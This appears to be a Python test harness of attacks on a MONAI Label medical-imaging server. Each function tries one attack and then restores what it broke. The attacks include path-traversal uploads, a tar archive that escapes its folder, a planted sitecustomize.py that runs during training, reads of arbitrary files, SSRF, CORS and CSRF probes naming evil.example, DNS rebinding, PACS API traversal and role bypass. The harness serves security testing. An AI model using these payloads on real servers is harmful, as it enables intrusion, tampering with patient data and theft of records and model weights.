"""Attacks on a MONAI Label server: each a function that tries one, and says by its effect whether it succeeded.

``ATTACKS`` lists them and ``tried`` makes one of them. What an attack is tried on is a ``Target``: a server, and where
on this machine its effects would be seen. Attacks put back what they have broken, so that the next one can be tried.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import secrets
import shutil
import struct
import tarfile
import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from enum import Enum
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from threading import Thread
from urllib.parse import quote, urlencode

import requests

SECRET_SHAPE = (19, 23, 29)
"""Voxels (I, J, K) of the image that no server was given: an answer of this shape was made from it."""

EVIL = "http://evil.example"


class Site(Enum):
    """What the server must serve for an attack to make sense."""

    FOLDER = "a folder of studies"
    PACS = "a PACS"
    USERS = "a folder of studies, for users who sign in"


@dataclass
class Target:
    """A server and what is known of it.

    Attributes:
        address: of the server, without a slash at its end.
        images: folder where it keeps images: the studies, or what it fetched of a PACS.
        outside: another folder, which is none of its business; it holds ``secret.nii.gz``, as ``write_volume`` makes
            it, and a folder ``secret`` beside with a file in it.
        weights: file of the model's.
        image, other_image: names of two images of the studies; the second has a final label.
        model, other_model: names of two models, whose answers differ.
        click: params that the first model wants.
        token: of somebody who may do everything, or "" where nobody has to sign in.
        annotator: of somebody who may only annotate, or "".
        replies: to what the attacks sent.
        users: tokens by name, where users sign in: ``admin``, ``trainer``, ``annotator`` and ``other``, an annotator.
        folder: holds everything that the server writes; below it ``adapters``, ``studies`` and ``server.log``.
        process_id: of the server.
    """

    address: str
    images: Path
    outside: Path
    weights: Path
    image: str
    other_image: str
    model: str
    other_model: str
    click: Mapping[str, object]
    token: str = ""
    annotator: str = ""
    replies: list[requests.Response] = field(default_factory=list)
    users: Mapping[str, str] = field(default_factory=dict)
    folder: Path = Path()
    process_id: int = 0

    def ask(self, method: str, path: str, query: Mapping[str, str] | None = None, **sent: object) -> requests.Response:
        """Send what belongs to an attack; dots and escapes of the path stay as they are."""
        self.replies.append(self.look(method, path, query, **sent))
        return self.replies[-1]

    def look(self, method: str, path: str, query: Mapping[str, str] | None = None, **sent: object) -> requests.Response:
        """Send what anybody may, to see what an attack has done. ``token`` is another one than the target's."""
        token = sent.pop("token", self.token)
        headers = {**({"Authorization": f"Bearer {token}"} if token else {}), **sent.pop("headers", {})}  # type: ignore[dict-item]
        ready = requests.Request(method, self.address, headers=headers, **sent).prepare()  # type: ignore[arg-type]
        ready.url = f"{self.address}{path}" + (f"?{urlencode(query)}" if query else "")
        with requests.Session() as session:
            return session.send(ready, timeout=120, allow_redirects=False)

    def infer(self, query: Mapping[str, str], **params: object) -> requests.Response:
        """Have the first model answer, with an NRRD file that is not packed."""
        asked = {**self.click, "result_extension": ".nrrd", "result_compress": False, **params}
        sent = {"output": "image", **query}
        return self.ask("POST", f"/infer/{self.model}", sent, data={"params": json.dumps(asked)})

    @property
    def secret(self) -> Path:
        return self.outside / "secret.nii.gz"

    def has_outside(self, content: bytes) -> bool:
        """Whether a file with this content lies outside."""
        return any(file.is_file() and file.read_bytes() == content for file in self.outside.rglob("*"))


@dataclass(frozen=True)
class Attack:
    """An attack.

    Attributes:
        name: of its function.
        does: what it does, a sentence.
        site: what it needs.
        attempt: the function.
        not_on_stock: why it does not succeed on MONAI Label 0.8.5 as it comes, or "" where it does.
        passed_over: whether a good server does not refuse it, but answers as if it had not been said.
    """

    name: str
    does: str
    site: Site
    attempt: Callable[[Target], bool]
    not_on_stock: str = ""
    passed_over: bool = False


@dataclass(frozen=True)
class Result:
    """What became of an attack.

    Attributes:
        succeeded: whether its effect was seen.
        replies: of the server, to what it sent.
    """

    succeeded: bool
    replies: tuple[requests.Response, ...]


ATTACKS: list[Attack] = []


def tried(attack: Attack, target: Target) -> Result:
    """Make an attack."""
    target.replies.clear()
    return Result(attack.attempt(target), tuple(target.replies))


def attack(
    site: Site, not_on_stock: str = "", passed_over: bool = False
) -> Callable[[Callable[[Target], bool]], Callable[[Target], bool]]:
    def listed(attempt: Callable[[Target], bool]) -> Callable[[Target], bool]:
        does = (attempt.__doc__ or "").partition("\n")[0]
        ATTACKS.append(Attack(attempt.__name__, does, site, attempt, not_on_stock, passed_over))
        return attempt

    return listed


# What is written where it must not be.


@attack(Site.FOLDER)
def image_outside(target: Target) -> bool:
    """Upload an image under a name that leads out of the studies."""
    content = _new_content()
    place = target.outside / _new_name()
    for path in ("/datastore/image", "/datastore/"):
        for name in (os.path.relpath(place, target.images), str(place)):
            target.ask("PUT", path, {"image": name}, files={"file": ("x.nii.gz", content)})
    return target.has_outside(content)


@attack(Site.FOLDER)
def label_outside(target: Target) -> bool:
    """Upload a label with a tag that leads out of the studies."""
    content = _new_content()
    place = target.outside / _new_name()
    for tag in (os.path.relpath(place, target.images / "labels" / "final"), str(place)):
        query = {"image": target.image, "tag": tag}
        target.ask("PUT", "/datastore/label", query, files={"label": ("x.nii.gz", content)})
    return target.has_outside(content)


@attack(Site.FOLDER)
def archive_outside(target: Target) -> bool:
    """Open a session with an archive whose files leave the folder that it is unpacked into."""
    content = _new_content()
    place = target.outside / _new_name()
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as archive:
        for name in (str(place), "../" * 12 + str(place)[1:]):
            member = tarfile.TarInfo(name)
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
    for yes in ("true", "on", "1"):
        target.ask("PUT", "/session/", {"uncompress": yes}, files={"files": ("x.tar", packed.getvalue())})
    return target.has_outside(content)


@attack(Site.FOLDER, passed_over=True)
def answer_outside(target: Target) -> bool:
    """Have an answer saved as a label, with a tag that leads out of the studies."""
    place = target.outside / _new_name()
    for tag in (os.path.relpath(place, target.images / "labels"), str(place)):
        target.infer({"image": target.image}, save_label=True, label_tag=tag)
        target.infer({"image": target.image}, label_tag=tag, image_id=tag)
    return place.exists()


@attack(
    Site.FOLDER,
    not_on_stock="The extension follows a random name, so it begins in a folder that is not there.",
    passed_over=True,
)
def extension_outside(target: Target) -> bool:
    """Have an answer written to a file whose extension leads elsewhere."""
    place = target.outside / f"{_new_name()}.nrrd"
    target.infer({"image": target.image}, result_extension="/../" + os.path.relpath(place, "/tmp"))  # noqa: S108
    return place.exists()


@attack(Site.FOLDER)
def code_through_training(target: Target) -> bool:
    """Upload a program as an image, and have the training's process load it."""
    name = _new_name()
    program = target.images / "sitecustomize.py"
    code = f"open({str(target.outside / name)!r}, 'w').close()\n".encode()
    target.ask("PUT", "/datastore/image", {"image": program.stem}, files={"file": ("x.py", code)})
    if not program.exists():  # Refused; whether the training would load it is still to be seen.
        program.write_bytes(code)
    reply = target.ask("POST", f"/train/{target.model}", json={"bundle_path": str(target.images)})
    done = reply.ok and _within(30, (target.outside / name).exists)
    _stop_training(target, reply)
    program.unlink()
    return done


@attack(Site.FOLDER)
def folder_removed(target: Target) -> bool:
    """Have a folder taken for a session that has lost its image, which is then removed."""
    prey = target.outside / _new_name()
    prey.mkdir()
    (prey / "images").write_bytes(b"somebody's")
    said = json.dumps({"name": "x", "path": "x", "image": "/nowhere", "meta": {}}).encode()
    query = {"image": os.path.relpath(prey / "meta", target.images)}
    target.ask("PUT", "/datastore/image", query, files={"file": ("x.info", said)})
    if not (prey / "meta.info").exists():
        (prey / "meta.info").write_bytes(said)
    target.infer({"session_id": str(prey)})
    target.ask("DELETE", f"/session/{quote(str(prey), safe='')}")
    done = not prey.exists()
    shutil.rmtree(prey, ignore_errors=True)
    return done


# What is read that must not be.


@attack(Site.FOLDER)
def infer_on_a_path(target: Target) -> bool:
    """Have a file segmented that is no image of the studies, by its path."""
    paths = (str(target.secret), os.path.relpath(target.secret, target.images), f"file://{target.secret}")
    return any(_is_of_secret(target.infer({"image": path})) for path in paths)


@attack(Site.FOLDER, passed_over=True)
def params_name_another_image(target: Target) -> bool:
    """Ask about one image, and name the path of another in the params."""
    secret = str(target.secret)
    return any(_is_of_secret(target.infer({"image": target.image}, image=named)) for named in (secret, [secret]))


@attack(Site.FOLDER, passed_over=True)
def params_name_another_model(target: Target) -> bool:
    """Ask one model, and name another in the params."""

    def answered(model: str, params: Mapping[str, object]) -> tuple[object, ...]:
        said = {"params": json.dumps({**target.click, **params})}
        reply = target.ask("POST", f"/infer/{model}", {"image": target.image, "output": "json"}, data=said)
        content = reply.json() if reply.ok else {}
        return reply.ok, sorted(content), content.get("label_names")

    one, other = answered(target.model, {}), answered(target.other_model, {})
    return one != other and answered(target.model, {"model": target.other_model}) == other


@attack(
    Site.FOLDER, not_on_stock="The store of a folder looks names up in its list, which only those have that it took."
)
def image_by_path(target: Target) -> bool:
    """Fetch a file that is no image of the studies, by its path."""
    return _fetched(target, "image", {})


@attack(
    Site.FOLDER, not_on_stock="The store of a folder looks names up in its list, which only those have that it took."
)
def label_by_path(target: Target) -> bool:
    """Fetch a file that is no label of the studies, by its path or by its tag's."""
    where = os.path.relpath(target.outside, target.images / "labels")
    with_tags = (_fetched(target, "label", {"tag": tag}) for tag in ("final", where, str(target.outside)))
    by_tag = (
        _is_secret(target, target.ask("GET", "/datastore/label", {"label": "secret", "tag": tag}))
        for tag in (where, str(target.outside))
    )
    return any([*with_tags, *by_tag])


@attack(Site.PACS)
def image_of_another_cache(target: Target) -> bool:
    """Fetch an image that the server did not fetch from its PACS, by its path."""
    return _fetched(target, "image", {})


@attack(Site.FOLDER, not_on_stock="A slip: slashes of the path become colons. The other pages are a library's.")
def file_through_the_pages(target: Target) -> bool:
    """Fetch a file from where the viewers' pages are fetched."""
    steps = ("..%2f", "%2e%2e/", "..%252f", "..%5c", "../")
    paths = [f"{page}/{step * 12}{str(target.secret)[1:]}" for page in ("/ohif", "/static") for step in steps]
    paths += [f"/ohif/{quote(str(target.secret), safe='')}", f"/static/{target.secret}"]
    return any(_is_secret(target, target.ask("GET", path)) for path in paths)


@attack(Site.FOLDER)
def weights_taken(target: Target) -> bool:
    """Carry the model's weights away."""
    return target.ask("GET", f"/model/{target.model}").content == target.weights.read_bytes()


@attack(Site.FOLDER)
def logs_read(target: Target) -> bool:
    """Read the server's log, which names images."""
    replies = [target.ask("GET", path, {"text": "true"}) for path in ("/logs/", "/logs")]
    return any(reply.ok and target.image in reply.text for reply in replies)


@attack(Site.FOLDER, not_on_stock="The readers of images open files and no addresses.")
def server_asks_an_address(target: Target) -> bool:
    """Have the server fetch an image from an address that only it may reach."""
    with _listening() as (address, heard):
        image = f"{address}/x.nii.gz"
        target.infer({"image": image})
        target.ask("GET", "/datastore/image", {"image": image})
        target.infer({"session_id": image})
        return bool(heard)


# What is changed or removed that must not be.


@attack(Site.FOLDER)
def weights_replaced(target: Target) -> bool:
    """Replace the model's weights."""
    before, content = target.weights.read_bytes(), _new_content()
    target.ask("PUT", f"/model/{target.model}", files={"file": (target.weights.name, content)})
    done = target.weights.read_bytes() == content
    target.weights.write_bytes(before)
    return done


@attack(Site.FOLDER)
def weights_removed(target: Target) -> bool:
    """Remove the model's weights."""
    return _removed(target, target.weights, f"/model/{target.model}", {})


@attack(Site.FOLDER)
def label_replaced_by_junk(target: Target) -> bool:
    """Upload what is no label in place of one."""
    before, content = _label(target).read_bytes(), _new_content()
    query = {"image": target.other_image, "tag": "final"}
    target.ask("PUT", "/datastore/label", query, files={"label": ("x.nii.gz", content)})
    done = _label(target).read_bytes() == content
    if done:
        _label(target).write_bytes(before)
    return done


@attack(Site.FOLDER)
def label_removed(target: Target) -> bool:
    """Remove a label."""
    return _removed(target, _label(target), "/datastore/label", {"id": target.other_image, "tag": "final"})


@attack(Site.FOLDER)
def image_replaced(target: Target) -> bool:
    """Upload other voxels under the name of an image that is there."""
    file = target.images / f"{target.other_image}.nii.gz"
    before = file.read_bytes()
    sent = {"file": ("x.nii.gz", target.secret.read_bytes())}
    target.ask("PUT", "/datastore/image", {"image": target.other_image}, files=sent)
    done = file.read_bytes() != before
    if done:
        file.write_bytes(before)
    return done


@attack(Site.FOLDER)
def image_removed(target: Target) -> bool:
    """Remove an image of the studies."""
    label = _label(target).read_bytes()
    file = target.images / f"{target.other_image}.nii.gz"
    done = _removed(target, file, "/datastore/image", {"id": target.other_image})
    if not _label(target).exists():
        _label(target).write_bytes(label)
    return done


@attack(Site.FOLDER)
def reload_without_a_role(target: Target) -> bool:
    """Have the application dropped, and built anew at the next request."""
    return target.ask("POST", "/reload").ok


# What pages of the web make a browser do.


@attack(Site.FOLDER)
def foreign_page_reads(target: Target) -> bool:
    """Have a browser show a page of another origin what the server answers, with the user's credentials."""
    return any(
        _lets_in(target.ask("GET", "/datastore/", {"output": "all"}, headers={"Origin": origin}), origin)
        for origin in (EVIL, "null")
    )


@attack(Site.FOLDER)
def foreign_page_may_remove(target: Target) -> bool:
    """Ask, as browsers do for a page of another origin, whether it may remove images."""
    headers = {"Origin": EVIL, "Access-Control-Request-Method": "DELETE"}
    return _lets_in(target.ask("OPTIONS", "/datastore/image", {"id": target.image}, headers=headers), EVIL)


@attack(Site.FOLDER)
def foreign_page_starts_training(target: Target) -> bool:
    """Start a training from a page of another origin; browsers do not ask for leave to send such a form."""
    reply = target.ask("POST", f"/train/{target.model}", headers={"Origin": EVIL, "Content-Type": "text/plain"})
    done = reply.ok and target.look("GET", "/train/").ok
    _stop_training(target, reply)
    return done


@attack(Site.FOLDER)
def name_that_means_this_machine(target: Target) -> bool:
    """Read from a page whose own name was made to mean this machine (DNS rebinding), so that its origin is the same."""
    headers = {"Host": "evil.example:8000", "Origin": f"{EVIL}:8000"}
    reply = target.ask("GET", "/datastore/", {"output": "all"}, headers=headers, token="")
    return reply.ok and target.image in reply.text


# The PACS behind the server, and who may do what.


_OUT_OF_DICOMWEB = ("..%2f", "%2e%2e/", "../", "studies/..%2f..%2f", "..%252f", "studies/%2e%2e/%2e%2e/")


@attack(Site.PACS)
def pacs_own_api(target: Target) -> bool:
    """Ask for the PACS's own API through the way to its DICOMweb."""
    paths = [
        f"/proxy/dicom/{kind}{step}system" for kind in ("", "wado/", "qido/", "stow/") for step in _OUT_OF_DICOMWEB
    ]
    return any("DicomAet" in target.ask("GET", path).text for path in paths)


@attack(Site.PACS)
def pacs_own_api_by_post(target: Target) -> bool:
    """List all patients with the PACS's own API, which needs a POST."""
    said = json.dumps({"Level": "Patient", "Query": {}}).encode()
    paths = [f"/proxy/dicom/{kind}{step}tools/find" for kind in ("", "stow/") for step in _OUT_OF_DICOMWEB]
    return any(_is_list(target.ask("POST", path, data=said)) for path in paths)


@attack(Site.PACS)
def pacs_other_servers(target: Target) -> bool:
    """Reach the part of the PACS's DICOMweb that sends images to other hospitals."""
    return any(_is_list(target.ask("GET", f"/proxy/dicom/{kind}servers")) for kind in ("", "wado/", "qido/"))


@attack(Site.PACS)
def without_signing_in(target: Target) -> bool:
    """Read the PACS's list of patients without a login."""
    paths = ("/proxy/dicom/studies", "/proxy/dicom/qido/studies")
    return any(_is_list(target.ask("GET", path, token="")) for path in paths)


@attack(Site.PACS)
def training_without_a_role(target: Target) -> bool:
    """Start a training as one who may only annotate, and as nobody."""
    done = False
    for token in (target.annotator, ""):
        reply = target.ask("POST", f"/train/{target.model}", json={}, token=token)
        done = done or reply.ok
        _stop_training(target, reply)
    return done


def write_volume(path: Path) -> None:
    """Write the image that no server was given, as NIfTI: (I, J, K) = ``SECRET_SHAPE``, 1 mm, in RAS."""
    header = bytearray(352)
    struct.pack_into("<i", header, 0, 348)
    struct.pack_into("<8h", header, 40, 3, *SECRET_SHAPE, 1, 1, 1, 1)
    struct.pack_into("<2h", header, 70, 4, 16)  # Whole numbers of 16 bits.
    struct.pack_into("<8f", header, 76, 1, 1, 1, 1, 1, 1, 1, 1)
    struct.pack_into("<f", header, 108, 352)
    struct.pack_into("<2f", header, 112, 1, 0)
    struct.pack_into("<2h", header, 252, 0, 1)
    for row, place in enumerate((280, 296, 312)):
        struct.pack_into("<4f", header, place, *(float(row == column) for column in range(3)), 0)
    header[344:348] = b"n+1\0"
    voxels = SECRET_SHAPE[0] * SECRET_SHAPE[1] * SECRET_SHAPE[2]
    path.write_bytes(gzip.compress(bytes(header) + struct.pack(f"<{voxels}h", *(n % 200 for n in range(voxels)))))


def _new_name() -> str:
    return f"attack-{secrets.token_hex(8)}"


def _new_content() -> bytes:
    return secrets.token_bytes(64)


def _label(target: Target) -> Path:
    return target.images / "labels" / "final" / f"{target.other_image}.nii.gz"


def _is_secret(target: Target, reply: requests.Response) -> bool:
    return reply.content == target.secret.read_bytes()


def _is_of_secret(reply: requests.Response) -> bool:
    """Whether an answer is a mask of the image that no server was given, as NRRD."""
    return b"sizes: %d %d %d\n" % SECRET_SHAPE in reply.content[:1000]


def _fetched(target: Target, what: str, query: Mapping[str, str]) -> bool:
    place = target.outside / "secret"
    names = [str(place), os.path.relpath(place, target.images), str(target.secret)]
    return any(_is_secret(target, target.ask("GET", f"/datastore/{what}", {what: name, **query})) for name in names)


def _is_list(reply: requests.Response) -> bool:
    try:
        return reply.ok and isinstance(reply.json(), list)
    except ValueError:
        return False


def _lets_in(reply: requests.Response, origin: str) -> bool:
    allowed = reply.headers.get("Access-Control-Allow-Origin")
    return allowed == origin and reply.headers.get("Access-Control-Allow-Credentials") == "true"


def _removed(target: Target, file: Path, path: str, query: Mapping[str, str]) -> bool:
    before = file.read_bytes()
    target.ask("DELETE", path, query)
    done = not file.exists()
    if done:
        file.write_bytes(before)
    return done


def _within(seconds: float, happens: Callable[[], bool]) -> bool:
    end = time.monotonic() + seconds
    while not happens():
        if time.monotonic() > end:
            return False
        time.sleep(0.25)
    return True


def _stop_training(target: Target, started: requests.Response) -> None:
    """End a training that an attack has started; it cannot be stopped in its first moments."""
    if started.ok:
        _within(30, lambda: target.look("DELETE", "/train/").ok)


@contextmanager
def _listening() -> Iterator[tuple[str, list[str]]]:
    """A server on this machine; its address, and the paths that it is asked for."""
    heard: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.path)
            self.send_error(404)

        def log_message(self, *_: object) -> None:
            pass

    server = HTTPServer(("127.0.0.1", 0), Handler)
    thread = Thread(target=server.serve_forever)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", heard
    finally:
        server.shutdown()
        thread.join()
        server.server_close()
